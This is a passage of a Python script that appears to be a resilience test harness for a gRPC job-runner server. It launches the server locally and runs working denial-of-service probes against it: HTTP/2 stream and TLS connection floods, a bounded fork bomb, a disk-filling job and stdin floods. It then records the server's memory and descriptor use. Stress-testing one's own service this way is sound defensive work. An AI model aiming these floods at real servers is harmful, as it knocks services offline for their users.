        except OSError:
            sock.close()
            continue
        socks.append((sock, 5))
    began = time.monotonic()
    closed = 0
    lasted = []
    while time.monotonic() - began < seconds and socks:
        time.sleep(2)
        alive = []
        for sock, at in socks:
            try:
                sock.sendall(hello[at : at + 1])
                alive.append((sock, at + 1))
            except OSError:
                closed += 1
                lasted.append(time.monotonic() - began)
                sock.close()
        socks = alive
    for sock, _ in socks:
        sock.close()
    return {
        "connections": conns,
        "closed_by_server": closed,
        "longest_lasted_s": round(max(lasted), 1) if lasted else None,
    }


def _start(server: Server, command: str, args: list[str], **kw: Any) -> Any:
    with channel(server) as ch:
        return unary(ch, "Start", pb.StartRequest(command=command, args=args, **kw), pb.Job, 30)


def _stop(server: Server, job_id: str) -> None:
    with channel(server) as ch, contextlib.suppress(grpc.RpcError):
        unary(ch, "Stop", pb.StopRequest(id=job_id), pb.Job, 30)


def many_followers(server: Server, followers: int = 2000, hold: float = 15.0) -> dict[str, Any]:
    """``followers`` Output followers (offset 0) of one chatty job, one identity, 32 per
    connection, each reading everything: what a follower costs, and the legit Status."""
    script = "while :; do head -c 65536 /dev/zero | tr '\\0' y; sleep 0.1; done"
    job = _start(server, "sh", ["-c", script])
    conns = _connections(server, (followers + 31) // 32)
    opened = 0
    for raw in conns:
        data = b""
        for i in range(min(32, followers - opened)):
            stream_id = 1 + 2 * i
            data += header_frames(stream_id, raw.request_block("Output"), end_stream=False)
            data += frame(
                DATA, END_STREAM, stream_id, grpc_message(pb.OutputRequest(id=job.id, follow=True))
            )
            opened += 1
        raw.send(data)
        raw.drain(0)
    cut = _hold(conns, hold)
    _stop(server, job.id)
    return {"followers": opened, "connections": len(conns), "cut_off": cut}


def start_flood(server: Server, starts: int = 2000) -> dict[str, Any]:
    """``starts`` Starts of ``sleep 600`` from one identity as fast as 8 threads go
    (no quota set: the default), then all stopped: the server's cost per job."""
    from concurrent.futures import ThreadPoolExecutor

    ids: list[str] = []
    failed: dict[str, int] = {}
    with channel(server) as ch:

        def one(_: int) -> None:
            try:
                job = unary(ch, "Start", pb.StartRequest(command="sleep", args=["600"]), pb.Job, 30)
                ids.append(job.id)
            except grpc.RpcError as exc:
                failed[str(exc.code())] = failed.get(str(exc.code()), 0) + 1

        began = time.monotonic()
        with ThreadPoolExecutor(8) as pool:
            list(pool.map(one, range(starts)))
        took = time.monotonic() - began
        fds = len(os.listdir(f"/proc/{server.pid}/fd"))
        rss = server.rss()

        def stop(job_id: str) -> None:
            with contextlib.suppress(grpc.RpcError):
                unary(ch, "Stop", pb.StopRequest(id=job_id), pb.Job, 60)

        with ThreadPoolExecutor(8) as pool:
            list(pool.map(stop, ids))
    return {
        "started": len(ids),
        "refused": failed,
        "starts_per_s": round(len(ids) / took),
        "server_fds_with_all_running": fds,
        "rss_with_all_running_mib": round(rss / MiB),
    }


def job_output_attacks(server: Server, seconds: float = 10.0) -> dict[str, Any]:
    """Hostile jobs, one after another, ``seconds`` each: 64 processes of one job writing
    at full speed (a bounded fork bomb, pids 100); a job that closes its pipes and goes on
    running; a job writing at full speed to a follower that reads 1 KiB a second."""
    out: dict[str, Any] = {}
    bomb = _start(
        server, "sh", ["-c", "for i in $(seq 64); do yes & done; wait"], limits=pb.Limits(pids=100)
    )
    time.sleep(seconds)
    _stop(server, bomb.id)
    with channel(server) as ch:
        out["fork_output_bytes"] = unary(
            ch, "Status", pb.StatusRequest(id=bomb.id), pb.Job, 30
        ).output_bytes
    closed = _start(server, "sh", ["-c", "exec >&- 2>&- </dev/null; sleep 600"])
    cpu0 = server.cpu()
    time.sleep(seconds)
    out["closed_pipes_cpu_s"] = round(server.cpu() - cpu0, 2)
    with channel(server) as ch:
        out["closed_pipes_state"] = pb.JobState.Name(
            unary(ch, "Status", pb.StatusRequest(id=closed.id), pb.Job, 30).state
        )
    _stop(server, closed.id)
    fast = _start(server, "yes", [])
    raw = Raw(server, struct.pack(">HL", 0x4, 1024), rcvbuf=4 * KiB)
    raw.drain(0.5)
    raw.send(
        header_frames(1, raw.request_block("Output"), end_stream=False)
        + frame(DATA, END_STREAM, 1, grpc_message(pb.OutputRequest(id=fast.id, follow=True)))
    )
    began = time.monotonic()
    while time.monotonic() - began < seconds:
        raw.sock.settimeout(1)
        with contextlib.suppress(TimeoutError, ssl.SSLError, OSError):
            raw.sock.recv(1024)
        time.sleep(1)
    raw.close()
    _stop(server, fast.id)
    with channel(server) as ch:
        out["fast_writer_output_mib"] = (
            unary(ch, "Status", pb.StatusRequest(id=fast.id), pb.Job, 30).output_bytes // MiB
        )
    return out


def tls_flood(server: Server, held: int = 1000, fresh: int = 20) -> dict[str, Any]:
    """``held`` whole TLS + HTTP/2 connections of one client (the probe's certificate),
    idle, from 127.0.0.2-5 (one source address may hold fewer), then ``fresh`` new
    connections of another client from 127.0.0.1 each calling Status once (5 s deadline):
    served?"""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ctx = ssl.create_default_context(cafile=str(server.ca))
    ctx.load_cert_chain(str(server.cert), str(server.key))
    ctx.set_alpn_protocols(["h2"])
    socks: list[ssl.SSLSocket] = []
    refused = 0
    began = time.monotonic()
    for i in range(held):
        raw = socket.socket()
        raw.bind((f"127.0.0.{2 + i % 4}", 0))
        raw.settimeout(5)
        try:
            raw.connect(("127.0.0.1", server.port))
            sock = ctx.wrap_socket(raw, server_hostname="localhost")
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        except (OSError, ssl.SSLError):
            raw.close()
            refused += 1
            continue
        socks.append(sock)
    opened_s = time.monotonic() - began
    served = 0
    errors: dict[str, int] = {}
    for _ in range(fresh):
        try:
            with channel(server, bystander=True) as ch:
                unary(ch, "Status", pb.StatusRequest(id=JOB[0]), pb.Job, 5.0)
            served += 1
        except grpc.RpcError as exc:
            errors[str(exc.code())] = errors.get(str(exc.code()), 0) + 1
    alive = 0
    for sock in socks:  # alive: no EOF after what the server sent (SETTINGS, a GOAWAY)
        sock.settimeout(0)
        try:
            while sock.recv(65536):
                pass
        except (ssl.SSLWantReadError, BlockingIOError):
            alive += 1
        except (OSError, ssl.SSLError):
            pass
        sock.close()
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return {
        "held": len(socks),
        "refused": refused,
        "opened_s": round(opened_s, 1),
        "held_alive_at_end": alive,
        "fresh_clients": fresh,
        "fresh_served": served,
        "fresh_errors": errors,
    }


def full_disk(server: Server) -> dict[str, Any]:
    """A job that writes until the state directory's disk is full (run with
    ``--state-parent`` on a small file system), then another client's Starts, Outputs and
    a List: served, and what do they say?"""
    hog = _start(server, "sh", ["-c", "head -c 4000000000 /dev/zero; sleep 600"])
    time.sleep(8)
    out: dict[str, Any] = {}
    with channel(server, bystander=True) as ch:
        out["hog_output_mib"] = (
            unary(ch, "Status", pb.StatusRequest(id=hog.id), pb.Job, 30).output_bytes // MiB
        )
        # What of it the disk kept (a replay: lost ranges are skipped), and what it left free.
        replay = ch.unary_stream(
            SERVICE + "Output", pb.OutputRequest.SerializeToString, pb.OutputChunk.FromString
        )
        kept = sum(len(c.data) for c in replay(pb.OutputRequest(id=hog.id), timeout=60))
        out["hog_kept_mib"] = round(kept / MiB, 2)
        disk = os.statvfs(server.log.parent)
        out["disk_free_mib"] = round(disk.f_bavail * disk.f_frsize / MiB, 2)
        states: dict[str, int] = {}
        outputs = 0
        for _ in range(5):
            try:
                job = unary(ch, "Start", pb.StartRequest(command="echo", args=["hi"]), pb.Job, 30)
                done = unary(ch, "Wait", pb.WaitRequest(id=job.id), pb.Job, 30)
                states[pb.JobState.Name(done.state)] = (
                    states.get(pb.JobState.Name(done.state), 0) + 1
                )
                stream = ch.unary_stream(
                    SERVICE + "Output",
                    pb.OutputRequest.SerializeToString,
                    pb.OutputChunk.FromString,
                )
                outputs += sum(len(c.data) for c in stream(pb.OutputRequest(id=job.id), timeout=10))
            except grpc.RpcError as exc:
                states[str(exc.code())] = states.get(str(exc.code()), 0) + 1
        out["bystander_starts"] = states
        out["bystander_output_bytes"] = outputs
        try:
            listed = unary(ch, "List", pb.ListRequest(), pb.ListResponse, 30)
            out["list"] = len(listed.jobs)
        except grpc.RpcError as exc:
            out["list"] = str(exc.code())
    _stop(server, hog.id)
    return out


def attach_stdin(
    server: Server, conns: int = 100, streams: int = 8, hold: float = 15.0
) -> dict[str, Any]:
    """Attach streams of one client to a job that never reads its stdin (``sleep`` with
    ``stdin``), ``streams`` on each of ``conns`` connections, each sending fifteen 64 KiB
    stdin messages (within its window): what the server holds for stdin nobody reads."""
    job = _start(server, "sleep", ["600"], stdin=True)
    opened = _connections(server, conns)
    piece = grpc_message(pb.AttachRequest(stdin=b"\0" * (64 * KiB - 16)))
    sent = 0
    for raw in opened:
        data = b""
        for i in range(streams):
            stream_id = 1 + 2 * i
            data += header_frames(stream_id, raw.request_block("Attach"), end_stream=False)
            data += frame(
                DATA, 0, stream_id, grpc_message(pb.AttachRequest(open=pb.AttachOpen(id=job.id)))
            )
        if not raw.send(data):
            continue
        for i in range(streams):
            for _ in range(15):  # within its 1 MiB window (the server's initial one)
                raw.sock.settimeout(0.2)
                try:
                    raw.sock.sendall(frame(DATA, 0, 1 + 2 * i, piece))
                except TimeoutError:
                    break
                except (OSError, ssl.SSLError):
                    raw.closed_by_server = True
                    break
                sent += len(piece)
            raw.drain(0)
            if raw.closed_by_server:
                break
    cut = _hold(opened, hold)
    _stop(server, job.id)
    return {
        "connections": len(opened),
        "streams_each": streams,
        "mib_sent": sent // MiB,
        "cut_off": cut,
    }


ATTACKS: dict[str, Callable[[Server], dict[str, Any]]] = {
    "big-id": big_id,
    "hpack-flood": hpack_flood,
    "header-cache": header_cache,
    "zero-window": zero_window,
    "small-window": small_window,
    "small-window-spread": small_window_spread,
    "no-read": no_read,
    "rapid-reset": rapid_reset,
    "ping-flood": ping_flood,
    "frame-flood": frame_flood,
    "alpn": alpn,
    "conn-flood": conn_flood,
    "many-windows": many_windows,
    "many-partial": many_partial,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "settings-flood": settings_flood,
    "odd-messages": odd_messages,
    "slow-tls": slow_tls,
    "many-followers": many_followers,
    "start-flood": start_flood,
    "job-output": job_output_attacks,
    "tls-flood": tls_flood,
    "full-disk": full_disk,
    "attach-stdin": attach_stdin,
}
CHATTY: list[str] = [""]
JOB: list[str] = [""]


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    ap.add_argument("attack", choices=[*ATTACKS, "all"])
    ap.add_argument("--pythonpath", help="run the server from this checkout instead")
    ap.add_argument("--label", default="")
    ap.add_argument(
        "--state-parent",
        help="make the server's state directory in DIR (full-disk: a small file system)",
    )
    args = ap.parse_args()
    names = [n for n in ATTACKS if n != "full-disk"] if args.attack == "all" else [args.attack]
    for name in names:
        with (
            running_server(args.pythonpath, args.state_parent) as server,
            channel(server) as ch,
        ):
            job = unary(ch, "Start", pb.StartRequest(command="true"), pb.Job, 30)
            JOB[0] = job.id
            chatty = None
            if name in (
                "zero-window",
                "small-window",
                "small-window-spread",
                "no-read",
                "many-windows",
            ):
                script = "while :; do head -c 1048576 /dev/zero | tr '\\0' x; sleep 0.05; done"
                chatty = unary(
                    ch, "Start", pb.StartRequest(command="sh", args=["-c", script]), pb.Job, 30
                )
                CHATTY[0] = chatty.id
                time.sleep(4)  # output on disk (beyond the memory tail): 32 MiB and more
            figures = measure(server, job.id, ATTACKS[name])
            if chatty is not None:
                with contextlib.suppress(grpc.RpcError):
                    unary(ch, "Stop", pb.StopRequest(id=chatty.id), pb.Job, 30)
        print(json.dumps({"attack": name, "label": args.label, **figures}), flush=True)


if __name__ == "__main__":
    main()
